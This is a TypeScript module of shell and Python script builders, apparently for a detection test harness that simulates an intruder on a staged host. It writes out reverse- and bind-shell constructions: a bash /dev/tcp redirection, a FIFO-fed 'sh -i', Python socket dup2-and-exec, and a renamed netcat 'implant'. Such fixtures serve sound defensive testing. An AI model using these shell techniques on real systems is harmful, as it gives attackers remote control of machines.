/** Scripts of sh(1) that variants share. `$HERE`, `$THERE` and `$ID` are put in when a variant starts. */

const parentOf = (path: string): string => path.slice(0, path.lastIndexOf('/')) || '/';

/** Copies a program, with its directory. */
export const copied = (program: string, path: string): string =>
  `mkdir -p '${parentOf(path)}'; cp ${program} '${path}'`;

/** netcat without the ID that its linker gave it, so that it is known for no copy. */
export const netcat = '/srv/built/agent';
/** Parameters with which netcat waits on a port or holds a connection; -d leaves its standard input unread. */
export const waiting = (port: number, more = ''): string => `-d -l -k ${more} $HERE ${port}`;
export const talking = (port: number, more = ''): string => `-d ${more} $THERE ${port}`;

/** Stands for a program that the intruder brought along. */
export const implant = (path: string, parameters: string): string => `${copied(netcat, path)}
exec '${path}' ${parameters}`;

/** Python with its code on the command line. The code holds no single quote. */
export const python = (code: string, program = 'exec /usr/bin/python3'): string => `${program} -c '${code}'`;

/** Writes a file; neither name nor text holds a single quote. */
export const written = (path: string, text: string): string => `mkdir -p '${parentOf(path)}'
cat > '${path}' <<'END_OF_FILE'
${text}
END_OF_FILE`;

/** Python with its code in a file. */
export const pythonFile = (path: string, code: string): string => `${written(path, code)}
exec /usr/bin/python3 '${path}'`;

const kinds = {tcp: 'SOCK_STREAM', udp: 'SOCK_DGRAM'} as const;

/** Python that opens `s`: a listener, or a connection to the intruder. */
export const listens = (protocol: 'tcp' | 'udp', port: number): string => `import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.${kinds[protocol]})
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("$HERE", ${port}))
${protocol === 'tcp' ? 's.listen()' : ''}`;

export const connects = (protocol: 'tcp' | 'udp', port: number, from?: number): string => `import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.${kinds[protocol]})
${from === undefined ? '' : `s.bind(("$HERE", ${from}))`}
s.connect(("$THERE", ${port}))`;

export const ready = 'print("ready", flush=True)';
export const stays = 'time.sleep(10000)';
/** Python code in lines. */
export const lines = (...parts: readonly string[]): string => parts.filter(Boolean).join('\n');

/** Python that puts a socket in the place of some descriptors, then becomes a program. */
export const becomes = (descriptors: readonly number[], program: string, ...words: readonly string[]): string =>
  lines(
    `for n in ${JSON.stringify(descriptors)}: os.dup2(s.fileno(), n)`,
    `os.execv("${program}", ${JSON.stringify(words)})`,
  );

/** Starts a program, and runs the script `then` once the program runs; $pid is the process. */
export const onceRunning = (path: string, parameters: string, then: string): string => `'${path}' ${parameters} &
pid=$!
while [ "$(readlink /proc/$pid/exe)" != '${path}' ]; do sleep 0.02; done
${then}
echo ready
wait`;

/** A shell whose orders come from a FIFO that the command fills, and whose answers the command sends. */
export const throughFifo = (command: string, shell = 'sh -i'): string => `mkfifo /tmp/$ID.fifo
${shell} < /tmp/$ID.fifo 2>&1 | ${command} > /tmp/$ID.fifo`;

/** bash connects, and becomes a program with the connection as its standard input, output and error. */
export const throughBash = (port: number, program: string, to = '$THERE'): string =>
  `exec bash -c 'exec ${program} <> /dev/tcp/${to}/${port} >&0 2>&1'`;

/** The program that runs the tests, at a path that the staged host has. */
export const node = '/srv/portwatch/node';
